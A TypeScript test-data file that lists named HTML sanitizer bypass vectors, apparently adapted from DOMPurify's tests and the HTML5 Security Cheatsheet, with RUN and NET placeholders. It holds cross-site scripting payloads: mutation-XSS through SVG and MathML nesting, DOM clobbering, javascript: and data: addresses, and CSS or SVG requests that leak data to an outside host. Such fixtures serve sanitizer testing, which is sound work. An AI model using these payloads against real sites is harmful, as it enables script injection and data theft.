import type { Vector } from "./vector.ts";

/**
 * What DOMPurify's own tests and the HTML5 Security Cheatsheet know of (both list their cases with their finders), written anew and with our own traps: the cases that
 * the other parts do not hold already.
 */
export const PUBLISHED: readonly Vector[] = [
  [
    "a drawing in a drawing's data",
    "<svg><image width=50 height=50 xlink:href=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://NET/i'/><script>RUN</script></svg>\" /></svg>",
  ],
  [
    "a dialog by its role",
    "<section role=alertdialog aria-labelledby=t><button aria-label=close onclick=RUN><i class=icon></i>Go on</button></section>",
  ],
  ["boxes to tick", "<input type=checkbox checked onchange=RUN><input type=radio onclick>"],
  [
    "a filter of a drawing",
    '<svg><defs><filter id=f><feGaussianBlur stdDeviation=9 /><feImage xlink:href="https://NET/f"/></filter></defs><circle r=9 filter="url(https://NET/g#f)"/></svg>',
  ],
  [
    "an address where none belongs",
    '<i href="javascript:RUN" src="https://NET/i" title="javascript:RUN">x</i><b data="https://NET/b" action="https://NET/c">x</b>',
  ],
  [
    "data addresses of every medium",
    '<img src="data:,1"><audio src="data:,2"></audio><video src="data:,3"></video><source src="data:,4"><p src="data:,5">x</p>',
  ],
  [
    "clobbered makers",
    "<img src=x name=createElement><img src=y id=createTextNode><img src=z name=createNodeIterator onerror=RUN>",
  ],
  ["a clobbered cookie", "<img src=x name=cookie onerror=RUN>"],
  ["a paragraph separator before a script's address", '7<a href="\u2029javascript:RUN">x</a>'],
  [
    "a blank of Mongolia and of Ogham before a script's address",
    '<a href="&#x180E;javascript:RUN">x</a><a href="&#x1680;javascript:RUN">x</a><a href="&#x205f;javascript:RUN">x</a>',
  ],
  ["a data picture that is none", "<img src=data:image/jpeg,onerror=RUN><img src='\r\ndata:image/png,x' onerror=RUN>"],
  ["a picture that works for ever", "<img src='javascript:while(true){}'>"],
  ["a data address behind a link", "<a href=data:,RUN>x</a><a href='data:application/xhtml+xml,<x/>'>x</a>"],
  ["an element's attributes by name", '<form onmouseover="RUN"><input name=attributes><input name=attributes>x</form>'],
  ["a place by name", '<a href="#x" id=location>y</a><img name=getElementsByTagName>'],
  ["names of a parent", "<div onclick=RUN><form onsubmit=RUN><input onfocus=RUN name=parentNode>1</form></div>"],
  ["names of a kind", "<form onsubmit=RUN><input onfocus=RUN name=nodeType>1</form><form><input name=nodeName></form>"],
  ["names of children", "<form onsubmit=RUN><input onfocus=RUN name=children>1<input name=lastChild></form>"],
  [
    "names of what removes",
    "<form onsubmit=RUN><input onfocus=RUN name=removeAttributeNode>1<input name=remove></form>",
  ],
  [
    "names of a node's beginning",
    "<image name=body><image name=adoptNode>1<image name=firstElementChild><svg onload=RUN>",
  ],
  ["the name of what has the focus", "<image name=activeElement><svg onload=RUN>"],
  [
    "a key maker that takes the focus",
    "<image name=body><img src=x><svg onload=RUN autofocus>, <keygen onfocus=RUN autofocus>",
  ],
  [
    "names of a form's own",
    "<input name=submit>1<form><input name=acceptCharset><input name=hasChildNodes><input name=namespaceURI></form>",
  ],
  [
    "an unknown attribute that looks like a script",
    '<p onmouseout="RUN" x=yscript: n>x</p><input x=javascript: autofocus onfocus=RUN>',
  ],
  ["a button with an order", '<button remove=me onmousedown="RUN" onclick="RUN">x'],
  [
    "an index of the first web",
    '<isindex x="javascript:" onmouseover="RUN" label=x><isindex action="javascript:RUN" type=image src=x>',
  ],
  ["an attribute to be taken away first", "<p wow=removeme onmouseover=RUN>x"],
  ["a form with a broken script's address", '<form action="javasc\nript:RUN"><button>x</button></form>'],
  ["a button of a form elsewhere", '<form id=z></form><button form=z formaction="javascript:RUN">x</button>'],
  [
    "a character set that turns text to tags",
    '<meta charset="x-imap4-modified-utf7">&ADw&AHM&AGM&AHI&AGkAcAB0AD4&RUN<meta charset=x-mac-farsi>\u00bcscript\u00be',
  ],
  [
    "a worker from a data address",
    "<script>Worker('#').onmessage=function(){RUN}</script>:postMessage(importScripts('data:,RUN'))",
  ],
  [
    "a getter that calls",
    "<script>({set/**/$($){_/**/setter=$,_=1}}).$=top.hit;Error.prototype.__defineGetter__('name',function(){RUN}),x</script>",
  ],
  [
    "two fields that fight for the focus",
    "<input onblur=RUN autofocus><input autofocus><input onblur=focus() autofocus>",
  ],
  ["a scroll to a field", "<body onscroll=RUN>" + "<br>".repeat(60) + "<input autofocus>"],
  ["templates that repeat", "<x repeat=template repeat-start=999999>0<y repeat=template repeat-start=999999>1</y></x>"],
  ["a pattern without an end", "<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>"],
  [
    "behaviours of time",
    "<x style=`behavior:url(#default#time2)` onbegin=`RUN`>x</x><set/xmlns=`urn:schemas-microsoft-com:time` attributename=innerhtml to=`<img/src=x onerror=RUN>`>",
  ],
  [
    "an animation of time",
    "1<animate/xmlns=urn:schemas-microsoft-com:time style=behavior:url(#default#time2) attributename=innerhtml values=<img/src=. onerror=RUN>>",
  ],
  [
    "a form that hears its input",
    "<form id=t onforminput=RUN><input></form><button form=t onformchange=RUN>x</button>",
  ],
  ["text of a set without letters", "+ADw-html+AD4APA-body+AD4APA-img src+AD0-x onerror+AD0-RUN+AD4-"],
  [
    "a rule with a broken selector",
    "<style>p[foo=bar{}*{background:url(https://NET/a)}{}*{-o-link-source:current}]{color:green}</style><p>x",
  ],
  [
    "a sheet in a data address",
    '<link rel=stylesheet href="data:,*%7bbackground:url(https://NET/a)%7d"><style>@import "data:,*%7bbackground:url(https://NET/b)%7D";</style><p>x',
  ],
  [
    "two links over each other",
    '<a style="pointer-events:none;position:absolute"><a style="position:absolute" onclick="RUN">x</a></a><a href="javascript:RUN">x</a>',
  ],
  [
    "drawings of old Office",
    '<vmlframe xmlns=urn:schemas-microsoft-com:vml style="behavior:url(#default#vml);position:absolute;width:100%" src="https://NET/t.vml#x"></vmlframe><a href=#><line xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml) href=javascript:RUN strokeweight=1000px /></a>',
  ],
  ["a folder behind a click", '<a style="behavior:url(#default#AnchorClick);" folder="javascript:RUN">x</a>'],
  ["a comment with a picture", '<!--<img src="--><img src=x onerror=RUN//">'],
  ["an element named comment", '<comment><img src="</comment><img src=x onerror=RUN//">'],
  ["a marked section", '<![><img src="]><img src=x onerror=RUN//">'],
  ["a style with a picture's end", '<style><img src="</style><img src=x onerror=RUN//">'],
  [
    "an empty list's picture",
    "<li style=list-style:url() onerror=RUN></li><p style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=RUN></p>",
  ],
  ["a base that is a script", '<head><base href="javascript://"/></head><body><a href="/. /,RUN//#">x</a></body>'],
  [
    "a font that is a drawing",
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><style>@font-face{font-family:y;src:url("https://NET/font.svg#x") format("svg")}body{font:100px "y"}</style></head><body>x</body></html>',
  ],
  ["an import in a selector", "<style>*[{}@import'https://NET/t.css?]{color:green}</style>x"],
  [
    "families with brackets",
    '<p style="font-family:\'foo[a];background:url(https://NET/a);\'">x</p><p style="font-family:foo}background:url(https://NET/b);">x</p>',
  ],
  ["a script for an event", "<SCRIPT FOR=document EVENT=onreadystatechange>RUN</SCRIPT>"],
  [
    "an object by number",
    '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:RUN"></OBJECT>',
  ],
  [
    "a page in base 64",
    '<object data="data:text/html;base64,PHNjcmlwdD50b3AuaGl0KC0xKTwvc2NyaXB0Pg=="></object><embed src="data:text/html;base64,PHNjcmlwdD50b3AuaGl0KC0xKTwvc2NyaXB0Pg=="></embed>',
  ],
  ["a label with a source", "<label dataformatas=html datasrc=#x datafld=payload></label>"],
  [
    "a film whose source is missing",
    '<video><source onerror="RUN"></video><video onerror="RUN"><source></source></video>',
  ],
  ["a script in an element's tag", "<b><script<b></b><RUN</script </b></b>"],
  [
    "a back quote in a value",
    '<div id=d1><input value="``onmouseover=RUN"></div><script>d2.innerHTML=d1.innerHTML</script>',
  ],
  ["a declaration with square brackets", '<p style="[a]color[b]:[c]red;[x]background:url(https://NET/a)">x</p>'],
  [
    "marks that take an attribute for their own",
    "<x '=\"foo\"><x foo='><img src=x onerror=RUN//'><! '=\"foo\"><x foo='><img src=x onerror=RUN//'>",
  ],
  [
    "addresses that are scripts, of four elements",
    '<embed src="javascript:RUN"></embed><img src="javascript:RUN"><image src="javascript:RUN"><script src="javascript:RUN"></script>',
  ],
  [
    "a sheet for the whole document",
    "<?xml-stylesheet type=\"text/xsl\" href=\"data:,%3Cxsl:transform version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'%3E%3Cscript%3ERUN%3C/script%3E%3C/xsl:transform%3E\"?><root/>",
  ],
  ["attributes that a document type adds", '<!DOCTYPE x [<!ATTLIST img src CDATA "x" onerror CDATA "RUN">]><img />'],
  [
    "a link of XML",
    '<doc xmlns:xlink="http://www.w3.org/1999/xlink"><x xlink:href="javascript:RUN" xlink:type=simple xlink:actuate=onLoad>x</x></doc>',
  ],
  [
    "a card of a telephone",
    '<card xmlns="http://www.wapforum.org/2001/wml"><onevent type=ontimer><go href="javascript:RUN"/></onevent><timer value=1 /></card>',
  ],
  ["a filter that changes", "<p style=width:1px;filter:glow onfilterchange=RUN>x</p>"],
  ["an element named by slashes", "<// style=x:expression\u00288RUN\u00029><p>x</p>"],
  [
    "a source of events",
    '<event-source src="https://NET/e" onload="RUN"><a href="javascript:RUN"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:x" /></a>',
  ],
  [
    "letters as wide as two in a style",
    "<style>*{x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(RUN)} p{background:\uff55\uff52\uff4c(https://NET/a)}</style><p>x",
  ],
  [
    "a template of XML",
    '<x:template xmlns:x="http://www.wapforum.org/2001/wml" x:ontimer="$(x:unesc)j$(y:escape)a$(z:noecs)v$x:RUN"><x:timer value=1 /></x:template>',
  ],
  [
    "events of XML",
    '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load ev:handler="javascript:RUN//#x"/><svg id=o><listener xmlns="http://www.w3.org/2001/xml-events" event=load observer=o handler="data:image/svg+xml,<handler>RUN</handler>#x"/></svg>',
  ],
  ["input that the body hears", "<body oninput=RUN onkeydown=RUN><input autofocus>"],
  [
    "a background without quotes and with a blank",
    '<p style="background:url(https://NET/f oo/;color:red/*/foo.jpg);">x</p><p style="background:url(/f#[a]oo/;background:url(https://NET/g)/*/foo.jpg);">x</p>',
  ],
  ["a list with two pictures", '<p style="list-style:url(https://NET/a)\u0010url(javascript:RUN);">x</p>'],
  [
    "a picture of a drawing that is set",
    '<svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml;charset=utf-8,<svg onload=RUN>"/></feImage></svg>',
  ],
  [
    "an archive of a page",
    '<iframe src="mhtml:https://NET/t.html!x.html"></iframe><iframe src="data:image/svg-xml,%1F%8B%08%00"></iframe>',
  ],
  [
    "what is written back to itself",
    "<div id=d><x xmlns=\"><iframe onload=RUN\"></div><script>d.innerHTML+=''</script><div id=e><p style=\"font-family:'x\\27\\3bx:expression(RUN)\\3b'\">x</p></div>",
  ],
  [
    "comments in comments of a style",
    "<style>*{color:gre/**/en !/**/important}<!-- --><!--*{background:url(https://NET/a)} *{background:url(xx //**/\\red/*)}</style>x",
  ],
  [
    "a back quote in an address",
    '<img src="x` `<script>RUN</script>"` `><a href=https://NET/#x=`y></a><img alt="`><img src=xx onerror=RUN></a>">',
  ],
  [
    "a history that is pushed",
    "<script>history.pushState(0,0,'/i/am/elsewhere');top.location.hash='#/elsewhere'</script>",
  ],
  ["a value that is cut by a slash", '<img src onerror /" \'"= alt=RUN//">'],
  ["a title's title", "<title onpropertychange=RUN></title><title title=></title>"],
  [
    "paths with markers",
    '<svg><path d="M0,0" style="marker-start:url(https://NET/m.svg#a)"/><rect style="clip-path:url(https://NET/c.svg#a);fill:url(https://NET/f#b);stroke:url(https://NET/s#f)"/></svg>',
  ],
  [
    "a family with a brace",
    '<p style="font-family:foo{bar;background:url(https://NET/oo};color:red/*/foo.jpg);">x</p><style>#x{font-family:foo[bar;color:green;} #y];background:url(https://NET/y);{}</style><p id=x>x</p>',
  ],
  ["conditions of old browsers", "<!--[if]><script>RUN</script --><!--[if<img src=x onerror=RUN//]> -->"],
  [
    "a vertical tab between attributes",
    '<xml:namespace prefix=t><import namespace=t implementation="#default#time2"><t:set attributeName=innerHTML to="<img\u000bsrc=x\u000bonerror\u000b=RUN>">',
  ],
  ["a frame in a link", '<a href="https://NET/"><iframe src="https://NET/f"></iframe>x</a>'],
  [
    "a word that is dropped elsewhere",
    "<div draggable=true ondragstart=\"event.dataTransfer.setData('text/plain','x');RUN\"><h1>Drop me</h1></div><iframe src=\"https://NET/drop\"></iframe>",
  ],
  ["a frame of a source", '<iframe src="view-source:https://NET/" style="width:400px"></iframe>'],
  [
    "windows that pop up",
    "<script>for(i=1;i<6;i++)window.open('https://NET/'+i,'w'+i)</script><a href=# onclick=window.open('https://NET/')>x</a>",
  ],
  [
    "a mask for clicks",
    '<iframe src="https://NET/" style="border:none;mask:url(#m)"></iframe><svg:svg><svg:mask id=m><svg:rect width=.3 height=.3 fill=white /></svg:mask></svg:svg>',
  ],
  [
    "a library from elsewhere",
    '<span class=foo>x</span><script src="https://NET/jquery.js"></script><script>$("span.foo").click(function(){RUN})</script>',
  ],
  [
    "a back slash for a slash",
    '<script src="/\\NET\\foo.js"></script><script src="\\\\NET\\foo.js"></script><img src="/\\NET\\p.gif">',
  ],
  [
    "a transformation of XML",
    '<svg><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:RUN"></iframe></xsl:template></xsl:stylesheet></svg>',
  ],
  [
    "an object of a player",
    '<object id=x classid="clsid:CB927D12-4FF7-4a9e-A169-56E4B8A75598"></object><object classid="clsid:02BF25D5" onqt_error="RUN" style="behavior:url(#x)"><param name=postdomevents /></object>',
  ],
  ["an unfinished style in a drawing", "<svg><style><img/src=x onerror=RUN// </b>"],
  [
    "a filter by a data address",
    "<svg><image style='filter:url(\"data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.RUN</script></svg>\")'></svg>",
  ],
  [
    "keys that a drawing hears",
    '<form><input name=secret type=password></form><svg><image><set attributeName="xlink:href" begin="accessKey(a)" to="//NET/?a" /><set attributeName="xlink:href" begin="accessKey(b)" to="//NET/?b" /></image></svg>',
  ],
  ["a comment with a back quote", "<!-- `<img/src=xxx onerror=RUN//--!><p>x"],
  [
    "an example before a script",
    "<xmp><%</xmp><img alt='%></xmp><img src=xx onerror=RUN//'><script>x='<%'</script> %>/RUN</script><style>*['<!--']{}</style>-->{}*{color:red}</style>",
  ],
  [
    "a sheet of old Windows",
    '<stylesheet xmlns="http://www.w3.org/TR/WD-xsl"><template match="/"><eval>RUN</eval><if expr="RUN"></if></template></stylesheet>',
  ],
  [
    "a name that is a direction",
    '<form action="https://NET/"><input name=injected value=x dirname=password><input type=submit></form>',
  ],
  [
    "an animated address from nothing",
    '<svg><a xlink:href="?"><circle r=400></circle><animate attributeName="xlink:href" begin=0 from="javascript:RUN" to="&" /></a></svg>',
  ],
  ["a title before a style in MathML in SVG", "<svg></p><math><title><style><img src=x onerror=RUN></style></title>"],
  ["a paragraph before a style in SVG", '<svg><p><style><g title="</style><img src=x onerror=RUN>">'],
  [
    "a foreign paragraph's style",
    '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;RUN<!--"></style>',
  ],
  [
    "an annotation's style",
    '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;RUN<!--"></style>',
  ],
  ["an example before a drawing", "<xmp><svg><b><style><b title='</style><img src=x onerror=RUN>'>"],
  ["a noembed before a drawing", "<noembed><svg><b><style><b title='</style><img src=x onerror=RUN>'>"],
  ["a table that moves a formula", "<math><mtext><table><mglyph><style><math href=javascript:RUN>x</math>"],
  [
    "a form that moves a drawing",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
  ],
  [
    "a table that moves a drawing",
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
  ],
  ["an element that is another", "<b is=foo onclick=RUN>x</b><input is=x-y onfocus=RUN autofocus>"],
  [
    "a search",
    '<search><form action="https://NET/s"><label for=m>x</label><input type=search id=m name=q><button>x</button></form></search>',
  ],
  [
    "a mask's kind",
    '<svg><mask id=a mask-type=alpha><image href="https://NET/m"/></mask><rect mask="url(#a)" /></svg>',
  ],
];
